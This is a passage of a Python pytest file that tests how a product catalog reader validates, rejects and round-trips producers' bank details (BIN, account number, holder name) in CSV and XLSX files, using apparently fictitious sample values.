    [left] = read_catalog(csv_file([good(2)]), "catalog.csv")
    assert (left.bank_bin, left.bank_account, left.bank_holder) == ("", "", "")
    columns = [c for c in COLUMNS if not c.startswith("bank_")]
    [without] = read_catalog(csv_file([good(2)], columns), "catalog.csv")
    assert without.bank_bin == ""


def test_a_wrong_bank_an_incomplete_one_or_two_banks_for_one_producer_are_refused() -> None:
    bank = {"bank_bin": "970436", "bank_account": "0451000123456", "bank_holder": "BA BE"}
    rows = [
        good(2, **bank | {"bank_bin": "123456"}),
        good(3, **bank | {"bank_account": "0451-ABC"}),
        good(4, **bank | {"bank_holder": ""}),
        good(5, **bank | {"bank_holder": "X" * 101}),
        good(6, **bank),
        good(7, **bank | {"bank_account": "0451000999999"}),
    ]
    assert rejected(csv_file(rows)) == [
        RowError(2, "bank_bin", Problem.bad_bank_bin, "123456"),
        RowError(3, "bank_account", Problem.bad_bank_account, "0451-ABC"),
        RowError(4, "bank_holder", Problem.bank_incomplete, ""),
        RowError(5, "bank_holder", Problem.bad_bank_holder, "X" * 50),
        RowError(7, "bank_account", Problem.bank_mismatch, "0451000999999"),
    ]


@pytest.mark.parametrize("filename", ["catalog.csv", "catalog.xlsx"])
def test_the_bank_survives_a_round_trip(filename: str) -> None:
    row = catalog_row(2, bank_bin="970422", bank_account="0012345678", bank_holder="HTX A")
    assert read_catalog(write_catalog([row], filename), filename) == [row]
